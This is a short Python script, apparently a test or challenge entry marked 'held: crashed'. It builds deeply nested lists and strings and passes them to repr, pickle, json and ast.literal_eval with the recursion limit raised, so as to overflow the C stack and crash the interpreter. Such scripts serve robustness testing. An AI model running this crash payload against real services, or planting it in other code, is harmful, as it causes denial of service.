"""Goal: overflow the C stack by parsers and printers"""
# held: crashed

import ast, json, pickle, sys

def attack():
    sys.setrecursionlimit(1 << 30)
    value = []
    for _ in range(1 << 14):
        value = [value]
    for trick in (repr, pickle.dumps, json.dumps, lambda _: json.loads('[' * (1 << 14)), lambda _: ast.literal_eval('-' * (1 << 14) + '1')):
        try:
            trick(value)
        except (RecursionError, MemoryError, SyntaxError, pickle.PicklingError):
            pass
    raise SystemExit
